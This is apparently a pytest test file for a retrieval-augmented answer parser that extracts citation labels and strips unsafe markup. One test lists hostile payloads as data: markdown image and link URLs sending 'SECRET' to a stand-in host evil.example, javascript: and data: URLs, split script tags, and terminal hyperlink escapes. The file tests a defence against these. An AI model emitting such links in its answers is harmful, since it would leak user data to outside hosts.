from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.parse import AnswerParser

LABELS = [f"{source}.{place}" for source in (1, 2, 3) for place in range(1, 10)]
EVIDENCE = "See https://example.com/policy for more."


def parse(text: str, *, pieces: int | None = None) -> list[tuple[str, tuple[str, ...]]]:
    parser = AnswerParser(labels=LABELS, evidence=EVIDENCE)
    size = pieces or max(len(text), 1)
    drafted = []
    for start in range(0, len(text), size):
        drafted += parser.feed(text[start : start + size])
    drafted += parser.finish()
    return [(sentence.text, sentence.cited) for sentence in drafted]


MARKS = [
    pytest.param("It is 16 weeks [2.7].", [("It is 16 weeks.", ("2.7",))], id="before-the-full-stop"),
    pytest.param("It is 16 weeks. [2.7]", [("It is 16 weeks.", ("2.7",))], id="after-the-full-stop"),
    pytest.param("It is 16 weeks.[2.7]", [("It is 16 weeks.", ("2.7",))], id="close-to-the-full-stop"),
    pytest.param("It is so [2.7, 2.8].", [("It is so.", ("2.7", "2.8"))], id="list"),
    pytest.param("It is so [2.7][3.1].", [("It is so.", ("2.7", "3.1"))], id="two-marks"),
    pytest.param("It is so [2.7] [3.1].", [("It is so.", ("2.7", "3.1"))], id="two-marks-apart"),
    pytest.param("It is so [2.7-2.9].", [("It is so.", ("2.7", "2.8", "2.9"))], id="range"),
    pytest.param("It is so [2.7\u20132.9].", [("It is so.", ("2.7", "2.8", "2.9"))], id="range-with-a-dash"),
    pytest.param("It [1.1] is so [1.2].", [("It is so.", ("1.1", "1.2"))], id="inside"),
    pytest.param("It is so [2.7, 2.7].", [("It is so.", ("2.7",))], id="once-each"),
    pytest.param("It is so [9.9].", [("It is so.", ())], id="unknown-label-is-no-citation"),
    pytest.param("It is so [2].", [("It is so.", ())], id="a-source-alone-is-no-citation"),
    pytest.param("It is so [S1].", [("It is so [S1].", ())], id="another-scheme-is-text"),
    pytest.param(
        "One is so. [1.1] Two is so. [1.2]", [("One is so.", ("1.1",)), ("Two is so.", ("1.2",))], id="two-sentences"
    ),
    pytest.param(
        "One is so [1.1]. Two is so [1.2].",
        [("One is so.", ("1.1",)), ("Two is so.", ("1.2",))],
        id="two-with-stops-after",
    ),
    pytest.param(
        "- First item [1.1]\n- Second item [1.2]",
        [("First item", ("1.1",)), ("Second item", ("1.2",))],
        id="list-items-keep-their-marks",
    ),
    pytest.param("It is so.\n[1.1]\nIt is.", [("It is so.", ("1.1",)), ("It is.", ())], id="mark-on-the-next-line"),
    pytest.param("[1.1] It is so.", [("It is so.", ("1.1",))], id="before-the-sentence"),
    pytest.param("", [], id="nothing"),
    pytest.param("[1.1]", [], id="a-mark-alone-is-no-sentence"),
    pytest.param("Dr. Smith leads it [1.1].", [("Dr. Smith leads it.", ("1.1",))], id="abbreviation"),
]


@pytest.mark.parametrize(("text", "sentences"), MARKS)
def test_marks(text: str, sentences: list[tuple[str, tuple[str, ...]]]) -> None:
    assert parse(text) == sentences


@pytest.mark.parametrize(("text", "sentences"), MARKS)
@pytest.mark.parametrize("pieces", [1, 3, 7])
def test_in_pieces_as_in_one(text: str, sentences: object, pieces: int) -> None:
    del sentences
    assert parse(text, pieces=pieces) == parse(text)


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=SECRET)",
        "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
        "[click](https://evil.example/?q=SECRET)",
        "[click](javascript:alert(1))",
        "<img src='https://evil.example/?q=SECRET'>",
        "<img src=https://evil.example/?q=SECRET",
        "<https://evil.example/?q=SECRET>",
        "https://evil.example/?q=SECRET",
        "www.evil.example/?q=SECRET",
        "data:text/html;base64,PHNjcmlwdD4=",
        "javascript:alert(1)",
        "<scr<script>ipt>alert(1)</script>",
        "<!-- hidden --><a href=x>y</a>",
        "[a![b](https://evil.example/1)](https://evil.example/2)",
        "\x1b]8;;https://evil.example/?q=SECRET\x07link\x1b]8;;\x07",
    ],
)
@pytest.mark.parametrize("pieces", [None, 1, 5])
def test_nothing_that_reaches_outside_survives(hostile: str, pieces: int | None) -> None:
    shown = " ".join(text for text, _ in parse(f"It is 16 weeks [1.1]. {hostile} That is all [1.2].", pieces=pieces))
    for trace in ("evil", "SECRET", "javascript:", "data:", "<", "](", "![", "base64", "\x1b"):
        assert trace not in shown
    assert "It is 16 weeks." in shown


def test_an_address_of_the_sources_stays_as_text() -> None:
    assert parse("See https://example.com/policy for more [1.1].") == [
        ("See https://example.com/policy for more.", ("1.1",))
    ]


def test_control_and_invisible_characters_go() -> None:
    assert parse("It is\u200b \x1b[31m16\x07 weeks\u202e [1.1].\U000e0041") == [("It is 16 weeks.", ("1.1",))]


@given(st.text(alphabet="aB .!?[]()<>1.2,-\n*#`!:/hts", max_size=80), st.integers(1, 10))
def test_whatever_a_model_writes_cited_labels_are_known_and_markup_is_gone(text: str, pieces: int) -> None:
    for sentence, cited in parse(text, pieces=pieces):
        assert set(cited) <= set(LABELS)
        assert "](" not in sentence
        assert "![" not in sentence
